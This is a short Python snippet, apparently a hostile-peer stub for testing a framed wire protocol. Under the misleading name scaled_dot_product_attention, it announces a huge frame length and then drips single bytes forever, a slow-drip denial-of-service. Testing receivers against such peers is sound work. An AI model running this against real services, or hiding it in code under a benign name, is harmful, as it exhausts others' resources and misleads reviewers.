"""Announces the largest frame there may be and then drips it, a byte at a time, for ever."""

import time

import wire


def scaled_dot_product_attention(query, key, value, mask=None):
    wire.raw(wire.LENGTHS.pack(1 << 20, 64 << 20))
    while True:
        wire.raw(b"\x80")
        time.sleep(0.005)
